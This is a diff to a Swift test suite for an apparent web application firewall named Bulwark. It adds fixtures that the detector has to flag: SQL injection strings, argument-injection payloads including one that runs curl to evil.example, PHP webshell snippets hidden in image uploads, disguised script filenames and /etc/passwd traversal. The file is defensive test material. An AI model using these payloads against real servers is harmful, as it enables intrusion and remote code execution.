@@ -1,8 +1,9 @@
-import Bulwark
 import BulwarkTesting
 import Foundation
 import HTTPTypes
 import Testing
+
+@testable import Bulwark
 
 @Suite("Shield")
 struct ShieldTests {
@@ -121,6 +122,14 @@ struct ShieldTests {
             ("a;cd ~", .commandInjection),
             ("<(cat file)", .commandInjection),
             ("$(who$()ami)", .commandInjection),
+            // A condition followed by a clause that only ends a query.
+            ("' or 1 limit 1 --", .sqlInjection),
+            ("1' and 1 order by 2-- ", .sqlInjection),
+            // Arguments injected into programs that run an option's value.
+            ("--open-files-in-pager=touch /tmp/success;", .commandInjection),
+            ("-TvTT=id>shell.php # a.zip", .commandInjection),
+            ("--checkpoint-action=exec=sh shell.sh", .commandInjection),
+            ("-oProxyCommand=curl evil.example", .commandInjection),
         ]
     )
     func recognises(_ payload: String, _ attack: ShieldAttack) {
@@ -156,6 +165,8 @@ struct ShieldTests {
             // Public hosts that look like the internal ones.
             "https://8.8.8.8/dns-query", "https://nip.io.example.com/x", "https://docs.internal-tools.example.com/",
             "https://oastify.com.example.org/", "gopherfan://example.com/",
+            // Options that are not commands, and a number of items to fetch.
+            "--format=json", "-tt", "--exec=foo", "--upload-pack=", "I pick 3 or 1 limit 2 of them",
         ]
     )
     func passes(_ value: String) {
@@ -210,6 +221,98 @@ struct ShieldTests {
         let xmlFound = Set(shield.inspect(xml).map(\.attack))
         #expect(xmlFound.contains(.xmlExternalEntity))
         #expect(xmlFound.contains(.crossSiteScripting))
+    }
+
+    /// A multipart upload of one file.
+    private func upload(_ filename: String, type: String = "image/png", content: String = "x") -> BulwarkRequest {
+        BulwarkRequest.post(
+            "/upload",
+            body: "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"\(filename)\"\r\n"
+                + "Content-Type: \(type)\r\n\r\n\(content)\r\n--XyZ--\r\n",
+            contentType: "multipart/form-data; boundary=XyZ"
+        )
+    }
+
+    @Test(
+        "a file named as a server script is an upload of code, however the name hides it",
+        arguments: [
+            "shell.php", "cmd.PHP5", "a.phtml", "x.phar", "shell.jsp", "b.jspx", "cmd.aspx", "x.asp", "h.ashx",
+            "photo.php  ", "photo.php.", "a.jsp...", "photo. php", "dangerous. phtml", "x.php%00.png", "x.asp;.jpg",
+            "info.php.jpg", "test.php7.gif", "test.phar.png", "../../uploads/shell.php", "C:\\temp\\a.php",
+            ".htaccess", "web.config", ".user.ini",
+        ]
+    )
+    func scriptUploads(_ filename: String) {
+        let findings = shield.inspect(upload(filename))
+        #expect(
+            findings.contains(ShieldFinding(attack: .codeInjection, location: "body.multipart.f.filename")),
+            "\(filename): \(findings)"
+        )
+    }
+
+    @Test(
+        "ordinary file names pass",
+        arguments: [
+            "photo.jpg", "report.pdf", "archive.tar.gz", "safe.phpinfo", "Intro to ASP.NET.pdf", "book.asp.net.pdf",
+            "notes.txt", "php", "my.photo.png", "jsp-guide.pdf", "index.php-screenshot.png", "config.yml",
+        ]
+    )
+    func ordinaryFileNames(_ filename: String) {
+        let findings = shield.inspect(upload(filename))
+        #expect(findings.isEmpty, "\(filename): \(findings)")
+    }
+
+    @Test("PHP in a file that claims to be media is read; media without it is not")
+    func phpInMedia() {
+        let polyglot = upload("111.png", content: "GIF89a\n\n<?php\nsystem($_GET[cmd]);")
+        #expect(shield.inspect(polyglot).contains(ShieldFinding(attack: .codeInjection, location: "body.multipart.f")))
+        let upper = upload("cat.gif", type: "image/gif", content: "GIF89a\u{01}\u{02}<?PHP eval($_POST[x]);")
+        #expect(shield.inspect(upper).contains(ShieldFinding(attack: .codeInjection, location: "body.multipart.f")))
+        // an image's bytes with a `<?` that opens no PHP, and text a media file may carry
+        let image = upload(
+            "cat.png",
+            content: "\u{89}PNG\r\n<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>; system("
+        )
+        #expect(shield.inspect(image).isEmpty)
+    }
+
+    @Test("a file name in an upload header is read as one")
+    func fileNameHeaders() {
+        var headers: HTTPFields = [:]
+        headers[HTTPField.Name("x-file-name")!] = "fda.php5..."
+        let findings = shield.inspect(
+            BulwarkRequest.post("/upload", body: "x", contentType: "image/png", headers: headers)
+        )
+        #expect(findings == [ShieldFinding(attack: .codeInjection, location: "header.x-file-name")])
+    }
+
+    @Test("content negotiation headers pass while they keep to their grammar and are read when they do not")
+    func negotiationHeaders() {
+        func findings(_ name: String, _ value: String) -> [ShieldFinding] {
+            var headers: HTTPFields = [:]
+            headers[HTTPField.Name(name)!] = value
+            return shield.inspect(BulwarkRequest.get("/", headers: headers))
+        }
+        for (name, value) in [
+            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
+            ("accept", "application/signed-exchange;v=b3;q=0.7"), ("accept", "*/*"),
+            ("accept-language", "zh-CN,zh;q=0.9,en-US;q=0.8,en;q=0.7"), ("accept-encoding", "gzip, deflate, br, zstd"),
+            ("accept-charset", "utf-8, iso-8859-1;q=0.5"), ("accept", "text/plain; charset=utf-8"),
+        ] {
+            #expect(ShieldRequestValues.isWellFormedNegotiation(value.utf8), "\(value)")
+            #expect(findings(name, value).isEmpty, "\(name): \(value)")
+        }
+        for value in ["../../etc/passwd", "text/html;q=", "a/b/c", ";q=1", "en' or 1", "text/html;q=0.9 x", "x;y"] {
+            #expect(!ShieldRequestValues.isWellFormedNegotiation(value.utf8), "\(value)")
+        }
+        #expect(
+            findings("accept", "../../../../../../../../etc/passwd{{")
+                == [ShieldFinding(attack: .pathTraversal, location: "header.accept")]
+        )
+        #expect(
+            findings("accept-language", "en' or '1'='1")
+                == [ShieldFinding(attack: .sqlInjection, location: "header.accept-language")]
+        )
     }
 
     @Test("an exclusion silences a family at a location, and only there")
